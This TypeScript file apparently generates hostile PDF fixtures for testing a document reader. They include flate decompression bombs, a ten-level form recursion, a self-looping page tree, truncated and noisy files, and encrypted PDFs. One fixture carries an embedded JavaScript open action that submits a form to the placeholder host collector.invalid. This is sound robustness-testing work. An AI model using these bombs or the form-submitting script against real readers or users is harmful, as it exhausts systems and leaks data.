import { deflateSync } from 'node:zlib'
import type { HostileRecipe } from './hostile-file.ts'
import { type Bitmap, encodeJbig2 } from './jbig2.ts'
import { content, onePagePdf, ordinaryPdf, writePdf } from './write-pdf.ts'
import { randomBytes } from '../seeded-random.ts'
import { zeroBomb } from './repeat-deflate.ts'

/** Five by seven dots for the letters that the scanned page needs, one string a row. */
const letters: Readonly<Record<string, readonly string[]>> = {
  A: ['.###.', '#...#', '#...#', '#####', '#...#', '#...#', '#...#'],
  C: ['.###.', '#...#', '#....', '#....', '#....', '#...#', '.###.'],
  D: ['####.', '#...#', '#...#', '#...#', '#...#', '#...#', '####.'],
  E: ['#####', '#....', '#....', '####.', '#....', '#....', '#####'],
  L: ['#....', '#....', '#....', '#....', '#....', '#....', '#####'],
  N: ['#...#', '##..#', '#.#.#', '#..##', '#...#', '#...#', '#...#'],
  P: ['####.', '#...#', '#...#', '####.', '#....', '#....', '#....'],
  S: ['.####', '#....', '#....', '.###.', '....#', '....#', '####.'],
}

/** The PDFs of `docs/reading.md`, encrypted ones, and a page that is only a JBIG2 image. */
export const hostilePdfs: readonly HostileRecipe[] = [
  { name: 'zero-bytes.pdf', about: 'no bytes at all', expect: 'failed', make: () => Buffer.alloc(0) },
  {
    name: 'random-bytes.pdf',
    about: '64 kB of noise, no PDF header',
    expect: 'failed',
    make: () => randomBytes(65_536, 1),
  },
  { name: 'truncated.pdf', about: 'ten pages, cut at two thirds', expect: 'failed', make: truncated },
  {
    name: 'garbage-in-the-middle.pdf',
    about: 'ten pages, 2 kB of noise over the middle; readers recover most of the pages',
    expect: 'partial',
    make: garbageInTheMiddle,
  },
  { name: 'flate-bomb.pdf', about: '1 MB of content that inflates to 1 GiB', expect: 'failed', make: flateBomb },
  { name: 'nested-flate-bomb.pdf', about: 'the same, deflated twice', expect: 'failed', make: nestedFlateBomb },
  {
    name: 'twelve-million-characters.pdf',
    about: '12 million characters on one page',
    expect: 'failed',
    make: endlessText,
  },
  {
    name: 'form-recursion.pdf',
    about: 'ten levels of forms, each drawn ten times by the one above',
    expect: 'failed',
    make: formRecursion,
  },
  {
    name: 'page-tree-loop.pdf',
    about: 'a page tree that holds itself and claims ten million pages; one is real',
    expect: 'ready',
    make: pageTreeLoop,
  },
  {
    name: 'javascript.pdf',
    about: 'JavaScript as open action; the text is to be read, the script not run',
    expect: 'ready',
    make: openAction,
  },
  {
    name: 'password.pdf',
    about: 'encrypted (RC4, 128 bits), needs its password',
    expect: 'needs-password',
    password: 'marmalade',
    make: () => ordinaryPdf(2, { userPassword: 'marmalade' }),
  },
  {
    name: 'owner-password.pdf',
    about: 'opens without password, but its owner forbids copying: to be said',
    expect: 'ready',
    make: () => ordinaryPdf(2, { ownerPassword: 'owner-only' }),
  },
  { name: 'jbig2-scan.pdf', about: 'one page, one JBIG2 image, no text layer', expect: 'ready', make: jbig2Scan },
]

async function truncated(): Promise<Buffer> {
  const bytes = await ordinaryPdf(10)
  return bytes.subarray(0, Math.floor((bytes.length * 2) / 3))
}

async function garbageInTheMiddle(): Promise<Buffer> {
  const bytes = await ordinaryPdf(10)
  const start = Math.floor(bytes.length / 2)
  randomBytes(2048, 2).copy(bytes, start)
  return bytes
}

function flateBomb(): Buffer {
  return onePagePdf({ content: { dictionary: '/Filter /FlateDecode', stream: zeroBomb(2 ** 30) } })
}

function nestedFlateBomb(): Buffer {
  const stream = deflateSync(zeroBomb(2 ** 30), { level: 9 })
  return onePagePdf({ content: { dictionary: '/Filter [/FlateDecode /FlateDecode]', stream } })
}

/** All on one line, the shape that costs liteparse most (13 s, 2.4 GB; spread over lines it drops what overlaps). */
function endlessText(): Buffer {
  const words = `(${'Some words of text on the page. '.repeat(4)}) Tj\n`
  const operators = Buffer.from(`BT /F1 12 Tf 10 700 Td\n${words.repeat(12_000_000 / 128)}ET`)
  return onePagePdf({ content: { dictionary: '/Filter /FlateDecode', stream: deflateSync(operators, { level: 9 }) } })
}

/** 10^10 drawings of one word: no loop that a reader could notice, only more work than anyone has time for. */
function formRecursion(): Buffer {
  const levels = 10
  const forms = Array.from({ length: levels }, (_, level) => {
    const isLast = level === levels - 1
    const inner = isLast ? '/Font << /F1 5 0 R >>' : `/XObject << /X ${7 + level} 0 R >>`
    const operators = isLast ? 'BT /F1 8 Tf 10 10 Td (again) Tj ET' : '/X Do '.repeat(10)
    const dictionary = `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${inner} >>`
    return { dictionary, stream: Buffer.from(operators) }
  })
  return onePagePdf({ content: content('/X Do'), resources: '/XObject << /X 6 0 R >>', extra: forms })
}

function pageTreeLoop(): Buffer {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 10000000 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    content('BT /F1 14 Tf 72 760 Td (The only real page of ten million.) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])
}

function openAction(): Buffer {
  const script = 'app.alert("This must not run."); this.submitForm("https://collector.invalid/");'
  const escaped = script.replaceAll(/[()\\]/g, String.raw`\$&`)
  return onePagePdf({
    catalogue: `/OpenAction << /Type /Action /S /JavaScript /JS (${escaped}) >>`,
    content: content('BT /F1 14 Tf 72 760 Td (A page with an open action. The rent is 1,250 pounds.) Tj ET'),
  })
}

function jbig2Scan(): Buffer {
  const bitmap = blockLetterPage()
  const image = {
    dictionary: `/Type /XObject /Subtype /Image /Width ${bitmap.width} /Height ${bitmap.height}
   /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode`,
    stream: encodeJbig2(bitmap),
  }
  return onePagePdf({
    content: content('595 0 0 842 0 0 cm /Im Do'),
    resources: '/XObject << /Im 6 0 R >>',
    extra: [image],
  })
}

/** A page of 1240 by 1754 pixels (A4 at 150 dpi) with a frame and two words in letters about 23 mm high. */
function blockLetterPage(): Bitmap {
  const [width, height] = [1240, 1754]
  const words = [
    { word: 'SCANNED', x: 134, y: 300 },
    { word: 'PLACE', x: 134, y: 560 },
  ]
  const isFrame = (x: number, y: number): boolean => x < 60 || y < 60 || x >= width - 60 || y >= height - 60
  const isMargin = (x: number, y: number): boolean => x < 40 || y < 40 || x >= width - 40 || y >= height - 40
  return {
    width,
    height,
    isBlack: (x, y) => (isFrame(x, y) && !isMargin(x, y)) || words.some((word) => isInWord(word, x, y)),
  }
}

function isInWord({ word, x: left, y: top }: { word: string; x: number; y: number }, x: number, y: number): boolean {
  const dot = 20
  const column = Math.floor((x - left) / dot)
  const row = Math.floor((y - top) / dot)
  if (column < 0 || row < 0 || row > 6) return false
  const letter = letters[word[Math.floor(column / 7)] ?? '']
  return letter?.[row]?.[column % 7] === '#'
}
